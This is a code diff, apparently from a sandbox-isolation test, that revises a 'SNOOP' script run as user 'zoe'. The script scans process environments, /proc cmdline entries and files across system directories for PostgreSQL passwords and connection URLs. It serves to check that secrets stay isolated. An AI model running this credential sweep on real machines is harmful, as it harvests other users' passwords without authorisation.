@@ -51,23 +51,31 @@ SNOOPER = "zoe"
 #: and every file it can read.
 SNOOP = """\
 import os, re
-sources = [repr(sorted(os.environ.items()))]
+# A password in an environment (PGPASSWORD=..., or its repr) or in a connection URL; the
+# variable's name alone (the course's README, in its package metadata, names it) is no secret.
+pattern = re.compile(r"PGPASSWORD['\\"]?(?:=|, ')[^\\s'\\"`]+|postgresql://[^\\s'\\"]*127\\.0\\.0\\.1\\S*")
+found, searched = set(), 0
+def search(text):
+    # Each source is searched as it is read and dropped: the files the sandbox shows (a course
+    # environment under /tmp among them) would not fit in the kernel's memory all at once.
+    global searched
+    searched += 1
+    found.update(pattern.findall(text))
+search(repr(sorted(os.environ.items())))
 for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
     for name in ("environ", "cmdline"):
         try:
-            sources.append(open(f"/proc/{pid}/{name}", "rb").read().decode(errors="replace"))
+            search(open(f"/proc/{pid}/{name}", "rb").read().decode(errors="replace"))
         except OSError:
             pass
 for top in ("/home", "/tmp", "/run", "/etc", "/var", "/root", "/srv", "/opt", "/mnt"):
     for folder, _, names in os.walk(top):
         for name in names:
             try:
-                sources.append(open(os.path.join(folder, name), errors="replace").read(2**16))
+                search(open(os.path.join(folder, name), errors="replace").read(2**16))
             except OSError:
                 pass
-pattern = r"PGPASSWORD\\S*|postgresql://[^\\s'\\"]*127\\.0\\.0\\.1\\S*"
-found = sorted({match for text in sources for match in re.findall(pattern, text)})
-print(f"searched {len(sources)} sources; found: {found or 'nothing'}")
+print(f"searched {searched} sources; found: {sorted(found) or 'nothing'}")
 """
 
 
